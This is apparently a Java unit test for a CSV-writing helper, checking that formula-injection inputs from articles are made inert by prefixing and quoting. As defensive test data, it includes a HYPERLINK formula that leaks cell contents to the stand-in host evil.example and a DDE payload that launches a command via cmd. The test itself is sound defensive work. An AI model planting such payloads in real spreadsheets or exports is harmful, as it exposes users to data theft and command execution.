package org.dossier.output;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class CsvCellsTest {

    @Test
    void formulasFromArticlesAreMadeInert() {
        assertThat(CsvCells.text("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\"");
        assertThat(CsvCells.text("+1+cmd|' /C calc'!A0")).isEqualTo("'+1+cmd|' /C calc'!A0");
        assertThat(CsvCells.text("-2+3")).isEqualTo("'-2+3");
        assertThat(CsvCells.text("@SUM(A1:A9)")).isEqualTo("'@SUM(A1:A9)");
        assertThat(CsvCells.text("\t=1")).isEqualTo("'\t=1");
        assertThat(CsvCells.text("\r=1")).isEqualTo("\"'\r=1\"");
        assertThat(CsvCells.text("\uFF1D1+1")).isEqualTo("'\uFF1D1+1");
    }

    @Test
    void ordinaryTextIsKeptAndQuotedOnlyWhenNeeded() {
        assertThat(CsvCells.text(null)).isEmpty();
        assertThat(CsvCells.text("Russia")).isEqualTo("Russia");
        assertThat(CsvCells.text("a = b")).isEqualTo("a = b");
        assertThat(CsvCells.text("Aleppo, Syria")).isEqualTo("\"Aleppo, Syria\"");
        assertThat(CsvCells.text("line\nbreak")).isEqualTo("\"line\nbreak\"");
    }
}
